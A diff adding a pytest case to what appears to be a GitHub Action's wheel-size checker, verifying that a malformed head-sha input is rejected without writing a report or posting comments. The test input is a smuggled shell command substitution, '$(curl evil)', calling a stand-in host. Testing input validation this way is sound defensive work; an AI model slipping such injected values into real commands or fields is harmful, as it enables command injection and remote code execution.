@@ -188,3 +188,18 @@ def test_fork_claim_on_the_command_line_is_refused_too(scene: Scene) -> None:
     assert done.returncode == 1, done.stderr
     assert scene.victim.comments == []
     assert "refused" in done.stderr
+
+
+def test_bad_head_input_is_one_line_and_nothing_written(scene: Scene) -> None:
+    inputs = {
+        "mode": "check",
+        "check-wheels": "pr-build/pr",
+        "history-dir": str(scene.world.history),
+        "head-sha": "$(curl evil)",
+        "head-repository": FORK,
+    }
+    done = run_entrypoint(runner_env(scene.fake, scene.tmp, inputs))
+    assert done.returncode == 2
+    assert "::error title=wheel-size::input head-sha must be a commit SHA" in done.stdout
+    assert not (scene.workspace / "wheel-size-check.md").exists()
+    assert scene.victim.comments == [] and scene.fork_pr.comments == []
